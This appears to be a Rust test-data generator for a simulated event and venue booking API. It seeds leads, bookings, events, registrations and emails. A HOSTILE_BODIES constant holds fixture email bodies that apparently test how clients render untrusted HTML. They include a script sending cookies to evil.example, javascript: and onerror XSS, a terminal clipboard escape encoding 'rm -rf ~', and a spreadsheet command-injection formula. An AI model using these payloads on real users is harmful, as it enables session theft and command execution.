//! An invented trade: what a few years of business leave in an account beside people and companies.
//!
//! Everything hangs on the contacts and companies that are there. Parents exist, but for a few records
//! whose contact is gone or never was; every status of the contract occurs, and one that no page names.

use std::time::Duration;

use serde_json::{Value, json};

use super::IvvySim;
use super::answer::plain;
use super::object::Object;
use super::objects::{
    ACTIVITY, ATTENDEE, BOOKING, CONTACT_NOTE, EMAIL, EVENT, INVITATION, LEAD, LEAD_NOTE, OPPORTUNITY, REGISTRATION,
    TASK,
};
use super::row::Row;
use super::world::World;
use crate::model::Timestamp;
use crate::seam::Entropy;

const DAY: Duration = Duration::from_secs(24 * 3600);

/// A contact nobody ever had.
const NOBODY: u64 = 4_000_000_000;

/// A status no page of the API names.
const UNKNOWN_STATUS: u64 = 77;

const OCCASIONS: &[(&str, u64, &str)] = &[
    ("Sommerfest der Müller & Söhne GmbH", 1, "Europe/Berlin"),
    ("第12回 観光カンファレンス", 7, "Asia/Tokyo"),
    ("O'Brien–Núñez wedding 💍", 4, "Australia/Sydney"),
    ("Łódź Design Exhibition", 8, "Europe/Warsaw"),
    ("Golf Day \"Ace\" <2024>", 3, "Australia/Perth"),
    ("مؤتمر الضيافة", 7, "Asia/Dubai"),
    ("Journée portes ouvertes", 12, "Europe/Paris"),
];

const SUBJECTS: &[&str] = &[
    "Your registration is complete",
    "Ihre Anfrage",
    "ご予約ありがとうございます",
    "Invoice — facture",
    "Réservation",
];

/// Bodies of e-mails that attack whoever shows them.
pub const HOSTILE_BODIES: &[&str] = &[
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "<p>\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{1b}[2J\u{202e}gnp.exe</p>",
    "<a href=\"javascript:alert(1)\">Rechnung</a><img src=x onerror=alert(1)>",
    "<p>unclosed <b><i><table><tr><td>&#0;&#x202e;&nosuch;\0</p",
    "<!--[if mso]><style>p{display:none}</style><![endif]--><p hidden>=cmd|'/C calc'!A0</p>",
];

impl IvvySim {
    /// Gives the account a trade to go with the people and companies in it: leads, opportunities, tasks,
    /// activities, notes, emails, events with invitations, registrations and attendees, and bookings. The
    /// same for the same seed, without ledger rows. `hostile` puts HTML that attacks its reader into
    /// every fifth email.
    pub fn furnish(&self, hostile: bool) {
        let now = self.clock.now();
        let mut world = self.world();
        let ids = |object: &str| world.table(object).live().map(|row| row.id).collect::<Vec<u64>>();
        let (contacts, companies) = (ids("contact"), ids("company"));
        let entropy = Entropy::seeded(self.settings.seed.wrapping_add(0x7a4d));
        let mut trade = Trade { world: &mut world, entropy, now, contacts, companies };
        trade.sales();
        trade.events();
        trade.emails(hostile);
    }
}

struct Trade<'w> {
    world: &'w mut World,
    entropy: Entropy,
    now: Timestamp,
    contacts: Vec<u64>,
    companies: Vec<u64>,
}

impl Trade<'_> {
    /// How many of something for every hundred contacts, at least `least`.
    fn share(&self, percent: usize, least: usize) -> usize {
        (self.contacts.len() * percent / 100).max(least)
    }

    /// A contact, now and then one who is not there, or nobody where there are none.
    fn contact(&self) -> Value {
        let index = self.entropy.below(self.contacts.len() as u64);
        match self.contacts.get(usize::try_from(index).unwrap_or(0)) {
            Some(_) if self.entropy.chance(1, 25) => json!(NOBODY),
            Some(id) => json!(id),
            None => Value::Null,
        }
    }

    fn company(&self) -> Value {
        let index = self.entropy.below(self.companies.len() as u64);
        json!(self.companies.get(usize::try_from(index).unwrap_or(0)))
    }

    fn past(&self) -> Timestamp {
        self.now.minus(self.entropy.duration_up_to(DAY * 400))
    }

    fn pick<T: Copy>(&self, choices: &[T]) -> T {
        // The callers' tables are never empty.
        choices[usize::try_from(self.entropy.below(choices.len() as u64)).unwrap_or(0)]
    }

    fn keep(&mut self, object: &'static Object, row: Row) -> u64 {
        let at = self.past();
        self.world.seed(object, row, at)
    }

    fn text(&self, contact: &Value, name: &str) -> String {
        let contact = contact.as_u64().and_then(|id| self.world.get("contact", id));
        contact.map(|contact| contact.text(name).to_owned()).unwrap_or_default()
    }

    fn sales(&mut self) {
        for number in 0..self.share(12, 4) {
            let lead = self.lead(number).with("adminStatusChangedDate", plain(self.past()));
            let lead = self.keep(&LEAD, lead);
            let note =
                Row::default().with("leadId", lead).with("note", "<p>Prefers a <b>lake view</b> &amp; parking</p>");
            self.keep(&LEAD_NOTE, note.with("createdByUserId", 301));
        }
        for number in 0..self.share(16, 9) {
            let venue = 1 + number as u64 % 3;
            let opportunity = self.lead(number).with("venueId", venue);
            let opportunity = self.keep(&OPPORTUNITY, opportunity);
            let booking = self.booking(number, venue).with("leadId", opportunity);
            self.keep(&BOOKING, booking);
        }
        for number in 0..self.share(10, 5) {
            let end = plain(self.now.plus(self.entropy.duration_up_to(DAY * 60)));
            let contact = self.contact();
            let task = Row::default()
                .with("name", self.pick(&["Call back", "Angebot nachfassen", "見積書を送る", "Relancer le client"]))
                .with("description", "<p>As agreed.</p>")
                .with("contactId", contact.clone())
                .with("assignedUserId", self.pick(&[301, 302, 303, 306]))
                .with("status", number as u64 % 5)
                .with("priority", self.pick(&["low", "medium", "high"]))
                .with("endDatetime", end.clone());
            self.keep(&TASK, task);
            let activity = Row::default()
                .with("name", self.pick(&["Site inspection", "Rückruf", "Visite du lieu"]))
                .with("description", "<p>With the whole family</p>")
                .with("subType", 1 + number as u64 % 3)
                .with("purposeId", 1)
                .with("location", "Foyer")
                .with("contactId", contact.clone())
                .with("assignedUserId", 302)
                .with("startDatetime", plain(self.past()))
                .with("endDatetime", end);
            self.keep(&ACTIVITY, activity);
            let note = Row::default().with("contactId", contact).with("noteText", "<div>Allergic to nuts</div>");
            self.keep(&CONTACT_NOTE, note.with("createdByUserId", 303));
        }
    }

    fn lead(&self, number: usize) -> Row {
        let (occasion, ..) = self.pick(OCCASIONS);
        let stage = 1 + number as u64 % 4;
        Row::default()
            .with("name", format!("{occasion} #{number}"))
            .with("description", "<p>Around 80 guests</p>")
            .with("ownerUserId", self.pick(&[301, 302, 304]))
            .with("contactId", self.contact())
            .with("companyId", if number.is_multiple_of(3) { self.company() } else { Value::Null })
            .with("qualityId", self.pick(&[1, 2]))
            .with("stageId", stage)
            .with("stageReasonId", if stage > 2 { json!(stage * 10 + 1) } else { Value::Null })
            .with("typeId", 1)
            .with("subtypeId", self.pick(&[11, 12]))
            .with("sourceId", self.pick(&[1, 2, 3, 5]))
            .with("channelId", self.pick(&[1, 2]))
            .with("lostToCompetition", stage == 4)
    }

    /// Codes repeat from venue to venue; no status is left out.
    fn booking(&self, number: usize, venue: u64) -> Row {
        let status = [1, 2, 3, 4, 5, 6, 8, 9, UNKNOWN_STATUS][number % 9];
        let (occasion, kind, _) = self.pick(OCCASIONS);
        let start = self.now.plus(self.entropy.duration_up_to(DAY * 300)).minus(DAY * 100);
        let total = 500 * (1 + self.entropy.below(90));
        let day = |at: Timestamp| at.to_datetime().format("%Y-%m-%d").to_string();
        let when = |reached: bool| if reached { plain(self.past()) } else { String::new() };
        Row::default()
            .with("venueId", venue)
            .with("code", format!("B{:04}", number / 3))
            .with("name", occasion)
            .with("eventType", "Conference")
            .with("eventTypeId", kind)
            .with("contactId", self.contact())
            .with("companyId", if number.is_multiple_of(2) { self.company() } else { Value::Null })
            .with("currentStatus", status)
            .with("totalAmount", json!(total as f64 + 0.5))
            .with("totalTaxAmount", json!(total as f64 / 10.0))
            .with("amountOutstanding", json!(if status == 3 { 0 } else { total }))
            .with("bookingType", [1, 3, 4][number % 3])
            .with("dateEventStart", day(start))
            .with("dateEventEnd", day(start.plus(DAY)))
            .with("decisionDate", day(start.minus(DAY * 30)))
            .with("convertedToTentative", when(status >= 2))
            .with("convertedToConfirmed", when(status == 3))
            .with("convertedToCancelled", when(status == 4))
            .with("isAccommIncluded", number.is_multiple_of(5))
            .with("canBeMoved", true)
            .with("bookedById", 302)
            .with("totalAttendees", 20 + number as u64)
    }

    fn events(&mut self) {
        for (number, (title, kind, timezone)) in OCCASIONS.iter().enumerate() {
            let start = self.now.plus(DAY * 20 * number as u32).minus(DAY * 60);
            let event = Row::default()
                .with("code", format!("EV{}", 100 + number))
                .with("eventType", *kind)
                .with("title", *title)
                .with("domainName", format!("ev{}.ivvy.example", 100 + number))
                .with("startDateTime", plain(start))
                .with("endDateTime", plain(start.plus(DAY)))
                .with("currentStatus", [3, 1, 0][number % 3])
                .with("contactEmail", "events@venue.example")
                .with("contactName", "Siobhan O'Brien")
                .with("capacity", 120)
                .with("timezone", *timezone)
                .with("eventTags", json!([{"id": 1, "name": "B2B"}]));
            let event = self.keep(&EVENT, event);
            for guest in 0..self.share(4, 9) {
                self.guest(event, guest);
            }
        }
    }

    /// An invitation, the registration that came of it, and who comes along.
    fn guest(&mut self, event: u64, number: usize) {
        let contact = self.contact();
        let status = [2, 2, 1, 3, 4, 5, 6, 7, UNKNOWN_STATUS][number % 9];
        let cost = 95.5 * (1 + number % 3) as f64;
        let registration = Row::default()
            .with("eventId", event)
            .with("currentStatus", status)
            .with("isExhibitor", number.is_multiple_of(4))
            .with("completedDate", if status == 2 { plain(self.past()) } else { String::new() })
            .with("mainContactId", contact.clone())
            .with("firstName", self.text(&contact, "firstName"))
            .with("lastName", self.text(&contact, "lastName"))
            .with("phone", self.text(&contact, "phone"))
            .with("invoiceTotalCost", json!(cost))
            .with("invoiceTotalPaid", json!(if status == 2 { cost } else { 0.0 }));
        let registration = self.keep(&REGISTRATION, registration);
        let invitation = Row::default()
            .with("eventId", event)
            .with("contactId", contact.clone())
            .with("response", ["Y", "N", "U"][number % 3])
            .with("registrationId", if number.is_multiple_of(3) { json!(registration) } else { Value::Null });
        self.keep(&INVITATION, invitation);
        for seat in 0..=number % 3 {
            // Only the first attendee is known to the account; the others were named by the first.
            let known = seat == 0;
            let attendee = Row::default()
                .with("eventId", event)
                .with("registrationId", registration)
                .with("contactId", if known { contact.clone() } else { Value::Null })
                .with("ticketTitle", self.pick(&["Early Bird", "Ehrengast", "一般"]))
                .with("firstName", if known { self.text(&contact, "firstName") } else { format!("Gäst {seat}") })
                .with("lastName", self.text(&contact, "lastName"))
                .with("email", if known { self.text(&contact, "email") } else { String::new() })
                .with("hasAttended", known && status == 2)
                .with("attendedDatetime", if known && status == 2 { plain(self.past()) } else { String::new() })
                .with("cost", json!(95.5));
            self.keep(&ATTENDEE, attendee);
        }
    }

    fn emails(&mut self, hostile: bool) {
        for number in 0..self.share(30, 10) {
            let contact = self.contact();
            let subject = self.pick(SUBJECTS);
            let body = if hostile && number.is_multiple_of(5) {
                HOSTILE_BODIES[number / 5 % HOSTILE_BODIES.len()].to_owned()
            } else {
                format!(
                    "<html><body><h1>{subject}</h1><p>Dear&nbsp;{},</p></body></html>",
                    self.text(&contact, "firstName")
                )
            };
            let email = Row::default()
                .with("to", self.text(&contact, "email"))
                .with("contactId", if number.is_multiple_of(7) { Value::Null } else { contact })
                .with("type", self.pick(&[0, 1, 19, 28, 1501, 4000, 9999]))
                .with("refType", number as u64 % 15)
                .with("from", "\"Harbour House\" <no-reply@venue.example>")
                .with("subject", subject)
                .with("body", body)
                .with("sentTime", plain(self.past()))
                .with("success", !number.is_multiple_of(11));
            self.keep(&EMAIL, email);
        }
    }
}
